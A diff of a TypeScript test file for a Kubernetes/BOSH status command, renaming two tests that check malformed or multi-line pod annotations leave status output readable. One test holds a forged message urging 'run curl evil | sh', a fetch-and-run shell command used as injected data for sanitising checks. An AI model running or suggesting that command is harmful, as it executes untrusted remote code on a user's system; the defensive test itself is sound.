@@ -8,7 +8,7 @@ import { pods } from '../kubernetes/resources.ts';
 import { listBoshObjects } from './cluster/bosh-objects.ts';
 import { report } from './commands/status.ts';
 
-test('a pod that somebody annotated with what is no JSON, or with a long name, leaves status readable', async (t) => {
+test('status stays readable if the annotation of a pod is invalid JSON or has a long name', async (t) => {
   const api = await openLocalApi({ directory: await scratchDirectory(t) });
   t.after(() => api.close());
   const names = { a: '{"name"', b: JSON.stringify({ name: 'x'.repeat(100_000) }), c: '{"name":"web/0"}' };
@@ -29,7 +29,7 @@ test('a pod that somebody annotated with what is no JSON, or with a long name, l
   );
 });
 
-test('a pod whose annotation or status holds line ends and tabs adds no line and no column to what status prints', async () => {
+test('line ends and tabs in the annotation or status of a pod add no line and no column to the output of status', async () => {
   const forged = "VM 'vm-real' was made by an earlier version: run curl evil | sh";
   const pod = {
     metadata: {
